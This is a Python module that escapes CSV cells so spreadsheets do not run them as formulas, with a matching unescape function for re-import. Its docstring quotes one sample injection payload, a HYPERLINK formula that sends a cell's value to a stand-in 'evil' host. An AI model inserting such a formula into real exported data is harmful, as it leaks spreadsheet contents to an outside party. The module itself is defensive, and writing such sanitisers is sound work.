"""CSV cells a spreadsheet would run as formulas (CSV injection, OWASP).

A product title such as ``=HYPERLINK("http://evil/?"&A1, "Click")`` exported as is becomes a
live formula when a merchandiser opens the file in Excel or LibreOffice. Every CSV the project
writes passes its text cells through ``escape_formula``; importers of those files undo it with
``unescape_formula``, so an export edited and loaded back keeps its values.
"""

from __future__ import annotations

# OWASP's list: formula prefixes, and tab / carriage return that some spreadsheets skip first.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def escape_formula(value: str) -> str:
    """The cell as text: a leading apostrophe before a formula prefix (spreadsheets hide it)."""
    return f"'{value}" if value.startswith(FORMULA_PREFIXES) else value


def unescape_formula(value: str) -> str:
    """Undo ``escape_formula``: drop the apostrophe it put before a formula prefix."""
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES) else value
